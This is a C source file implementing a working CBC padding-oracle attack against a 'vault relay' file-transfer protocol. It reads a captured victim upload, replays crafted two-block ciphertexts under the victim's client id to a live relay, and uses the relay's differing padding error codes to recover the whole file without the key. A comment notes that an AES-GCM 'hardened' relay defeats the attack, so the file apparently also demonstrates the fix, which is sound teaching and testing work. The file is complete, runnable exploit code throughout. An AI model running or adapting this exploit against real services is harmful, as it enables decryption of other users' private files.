/*
 * vault-padding-oracle: the vault relay decrypts any 828 under the AES key
 * it last gave the client id in the header, and answers 1603 when the
 * PKCS#7 padding is good, 1607 when not.  From a capture of a victim's
 * upload (its id in clear, its ciphertext C_0 .. C_n-1), two-block uploads
 * X || C_i sent under that id tell whether D(C_i) xor X ends in good
 * padding, which finds D(C_i) a byte at a time (at most 256 queries a
 * byte), and P_i = D(C_i) xor C_i-1 (C_-1 the zero IV): the whole file,
 * without the key.  The hardened relay opens uploads with AES-GCM and
 * refuses every changed one alike: no oracle, nothing recovered.
 */
#include <err.h>
#include <getopt.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "io.h"
#include "vaultwire.h"

#define BLK 16
#define ORACLE_NAME "oracle.bin" /* the queries' file name, by default */

/* The victim's upload, as captured. */
struct upload {
	uint8_t id[VAULT_ID];
	uint8_t *frame; /* its packet 0, the template of every query */
	size_t frame_len;
	uint8_t *ct; /* the ciphertext, n blocks */
	size_t n;
	uint32_t orig_size;
};

/* The live relay, and the queries made to it. */
struct oracle {
	const char *to;
	const char *name;
	int fd; /* -1: the relay closed the last one (after a 1607) */
	struct upload *up;
	int hardened; /* the capture's profile */
	size_t content_off; /* the template's content field */
	unsigned long long queries;
	uint8_t q[VAULT_MSG_MAX];
};

static const struct option longopts[] = {
    {"name", required_argument, NULL, 'n'},
    {"to", required_argument, NULL, 't'},
    {NULL, 0, NULL, 0},
};

/* Appends packet fr's content to up's ciphertext; dies (2) on none. */
static void
add_content(struct upload *up, const struct capture_frame *fr, size_t *have)
{
	const struct capture_field *f = capture_field(fr, "content");

	if (f == NULL || f->len > VAULT_PACKET || *have + f->len > up->n)
		errx(2, "line %zu: a send_file without its content", fr->line);
	memcpy(up->ct + *have, f->data, f->len);
	*have += f->len;
}

/* The next 828 the client sent, at or after from, either profile; -1. */
static long
next_packet(const struct capture *c, size_t from)
{
	long i = (long)from - 1;

	while ((i = capture_find(
		    c, (size_t)(i + 1), "vault", NULL, TRACE_SENT)) != -1)
		if (strncmp(c->fr[i].step, "send_file", 9) == 0 &&
		    c->fr[i].len >= VAULT_REQ_HDR + 12)
			return i;
	return -1;
}

/* An 828's packet_number. */
static uint16_t
packet_number(const struct capture_frame *fr)
{
	return vault_get_u16(fr->buf + VAULT_REQ_HDR + 8);
}

/*
 * The first whole upload in c: packet 0 of a send_file the client sent,
 * then its packets in order.  Dies (2) when there is none.
 */
static void
find_upload(const struct capture *c, struct upload *up)
{
	const struct capture_frame *fr;
	size_t have = 0, next = 1, total;
	long i = -1;

	while ((i = next_packet(c, (size_t)(i + 1))) != -1 &&
	    packet_number(&c->fr[i]) != 0)
		;
	if (i == -1)
		errx(2, "the capture has no upload (a send_file packet 0)");
	fr = &c->fr[i];
	memcpy(up->id, fr->buf, VAULT_ID);
	up->frame = fr->buf;
	up->frame_len = fr->len;
	up->orig_size = vault_get_u32(fr->buf + VAULT_REQ_HDR + 4);
	up->n = vault_get_u32(fr->buf + VAULT_REQ_HDR);
	total = vault_get_u16(fr->buf + VAULT_REQ_HDR + 10);
	if ((up->ct = malloc(up->n ? up->n : 1)) == NULL)
		err(2, NULL);
	add_content(up, fr, &have);
	while (next < total && (i = next_packet(c, (size_t)(i + 1))) != -1) {
		fr = &c->fr[i];
		if (memcmp(fr->buf, up->id, VAULT_ID) != 0 ||
		    packet_number(fr) != next)
			continue;
		add_content(up, fr, &have);
		next++;
	}
	if (have != up->n)
		errx(2, "the capture's upload stops at %zu of %zu bytes", have,
		    up->n);
	up->n /= BLK;
}

/* Sends x || c under the victim's id: 1 good padding (1603), 0 not. */
static int
query(struct oracle *o, const uint8_t x[BLK], const uint8_t c[BLK])
{
	uint8_t r[VAULT_RESP_HDR + VAULT_ID + 4 + VAULT_NAME + VAULT_RECEIPT];
	uint8_t *p = o->q + VAULT_REQ_HDR;
	uint32_t size;
	uint16_t code;

	vault_put_u32(p, 2 * BLK); /* content_size */
	/* orig_file_size: hardened, the same as content_size. */
	vault_put_u32(p + 4, o->hardened ? 2 * BLK : BLK);
	vault_put_u16(p + 8, 0); /* packet_number */
	vault_put_u16(p + 10, 1); /* total_packets */
	vault_put_name(p + 12, o->name);
	memcpy(o->q + o->content_off, x, BLK);
	memcpy(o->q + o->content_off + BLK, c, BLK);
	if (o->fd == -1)
		o->fd = attack_dial(o->to);
	o->queries++;
	if (io_writeall(o->fd, o->q, o->up->frame_len) == -1 ||
	    io_readall(o->fd, r, VAULT_RESP_HDR) != VAULT_RESP_HDR)
		errx(2, "%s: the relay did not answer query %llu", o->to,
		    o->queries);
	code = vault_get_u16(r + 1);
	size = vault_get_u32(r + 3);
	if (size > sizeof(r) - VAULT_RESP_HDR ||
	    io_readall(o->fd, r + VAULT_RESP_HDR, size) != (ssize_t)size)
		errx(2, "%s: a reply of %u bytes", o->to, size);
	if (code == VAULT_FILE_CRC)
		return 1;
	if (code != VAULT_SERVER_ERROR)
		errx(2, "%s: reply %u to a file packet", o->to, code);
	/* The relay closes the connection after a 1607. */
	close(o->fd);
	o->fd = -1;
	return 0;
}

/* Finds byte j of D(c), the bytes after it in inter: -1 when none pads. */
static int
find_byte(struct oracle *o, const uint8_t c[BLK], uint8_t inter[BLK], int j)
{
	uint8_t x[BLK] = {0}, pad = (uint8_t)(BLK - j);
	int g, k;

	for (k = j + 1; k < BLK; k++)
		x[k] = inter[k] ^ pad;
	for (g = 0; g < 256; g++) {
		x[j] = (uint8_t)g;
		if (!query(o, x, c))
			continue;
		/* A 1 that may be 2 2, or 3 3 3: change the byte before. */
		if (j == BLK - 1) {
			x[j - 1] ^= 0xff;
			if (!query(o, x, c)) {
				x[j - 1] ^= 0xff;
				continue;
			}
		}
		inter[j] = (uint8_t)g ^ pad;
		return 0;
	}
	return -1;
}

/* P_i = D(C_i) xor C_i-1 into plain; -1 when the relay is no oracle. */
static int
break_block(struct oracle *o, size_t i, uint8_t plain[BLK])
{
	const uint8_t *c = o->up->ct + i * BLK;
	uint8_t inter[BLK] = {0};
	int j, k;

	for (j = BLK - 1; j >= 0; j--)
		if (find_byte(o, c, inter, j) == -1)
			return -1;
	for (k = 0; k < BLK; k++)
		plain[k] = inter[k] ^ (i > 0 ? c[k - BLK] : 0);
	return 0;
}

/*
 * The relay must take the victim's own last two blocks (good padding)
 * before any other: 0 it does, -1 it is no oracle.
 */
static int
oracle_works(struct oracle *o)
{
	uint8_t zero[BLK] = {0};
	const uint8_t *last = o->up->ct + (o->up->n - 1) * BLK;

	return query(o, o->up->n > 1 ? last - BLK : zero, last) ? 0 : -1;
}

/* Strips the PKCS#7 padding of the n bytes of p; -1 when it is bad. */
static long
unpad(const uint8_t *p, size_t n)
{
	uint8_t v = n ? p[n - 1] : 0;
	size_t k;

	if (v == 0 || v > BLK || v > n)
		return -1;
	for (k = 1; k <= v; k++)
		if (p[n - k] != v)
			return -1;
	return (long)(n - v);
}

/* Sends 902 for the queries' file left waiting by a last 1603. */
static void
forget_query(struct oracle *o)
{
	uint8_t m[VAULT_REQ_HDR + VAULT_NAME], r[VAULT_RESP_HDR + VAULT_ID];

	if (o->fd == -1)
		return;
	vault_put_req_hdr(m, o->up->id, VAULT_CRC_FAIL, VAULT_NAME);
	m[VAULT_ID] = o->up->frame[VAULT_ID];
	vault_put_name(m + VAULT_REQ_HDR, o->name);
	if (io_writeall(o->fd, m, sizeof(m)) != -1)
		(void)io_readall(o->fd, r, sizeof(r));
	close(o->fd);
	o->fd = -1;
}

/* Every block in turn, its progress on stderr; -1 no oracle. */
static int
recover(struct oracle *o, uint8_t *plain)
{
	unsigned long long before;
	size_t i;

	if (oracle_works(o) == -1) {
		attack_progress("no oracle: the relay refuses the victim's own "
				"last blocks (1607), nothing recovered");
		return -1;
	}
	for (i = 0; i < o->up->n; i++) {
		before = o->queries;
		if (break_block(o, i, plain + i * BLK) == -1) {
			attack_progress("block %zu: no byte value pads: the "
					"relay is no padding oracle",
			    i);
			return -1;
		}
		attack_progress("block %zu/%zu: %llu queries, %.1f a byte",
		    i + 1, o->up->n, o->queries - before,
		    (double)(o->queries - before) / BLK);
		attack_stats(o->queries, (i + 1) * BLK);
	}
	return 0;
}

static int
padding_oracle_main(int argc, char *argv[])
{
	struct capture c;
	struct upload up;
	struct oracle o = {.name = ORACLE_NAME, .fd = -1, .up = &up};
	uint8_t *plain;
	long len = -1;
	int ch;

	while ((ch = attack_getopt(argc, argv, "n:t:", longopts)) != -1)
		if (ch == 'n')
			o.name = optarg;
		else if (ch == 't')
			o.to = optarg;
	argc -= optind;
	argv += optind;
	if (o.to == NULL || argc > 1)
		attack_usage();
	if (vault_put_name(o.q + VAULT_REQ_HDR + 12, o.name) == -1 ||
	    o.name[0] == '\0')
		errx(2, "--name: not a file name of 1 to 254 bytes");
	capture_read(&c, argc ? argv[0] : "-");
	find_upload(&c, &up);
	if (up.frame_len > sizeof(o.q))
		errx(2, "the capture's send_file is %zu bytes", up.frame_len);
	memcpy(o.q, up.frame, up.frame_len);
	/* Faithful: name, then content; hardened: a nonce between them. */
	o.hardened = up.frame[VAULT_ID] == VAULT_VERSION_HARDENED;
	o.content_off =
	    VAULT_REQ_HDR + 12 + VAULT_NAME + (o.hardened ? VAULT_NONCE : 0);
	memset(o.q + o.content_off, 0, VAULT_PACKET);
	attack_progress("the victim's upload: %zu blocks (%u bytes) under "
			"client id %02x%02x%02x%02x...; the oracle: %s",
	    up.n, up.orig_size, up.id[0], up.id[1], up.id[2], up.id[3], o.to);
	if (up.n == 0 || (plain = malloc(up.n * BLK)) == NULL)
		errx(up.n == 0 ? 1 : 2, "no ciphertext block to attack");
	if (recover(&o, plain) == 0 && (len = unpad(plain, up.n * BLK)) == -1)
		attack_progress("the plaintext's padding is bad: no file");
	forget_query(&o);
	if (len >= 0)
		attack_output(plain, (size_t)len);
	free(plain);
	free(up.ct);
	capture_free(&c);
	return len >= 0 ? 0 : 1;
}

const struct attack attack_vault_padding_oracle = {
    "vault-padding-oracle",
    "--to host:port [--name file] [-o file] [capture.json]",
    "vault: the relay's 1607 versus 1603 decrypts a captured upload, no key",
    "  -n, --name file    the file name of the queries (default " ORACLE_NAME
    ")\n"
    "  -t, --to host:port the live relay that holds the victim's key\n"
    "  capture.json       a --trace-json capture of the victim's upload\n"
    "                     (pk-xfer or pk-mitm; default: stdin)\n",
    padding_oracle_main,
};
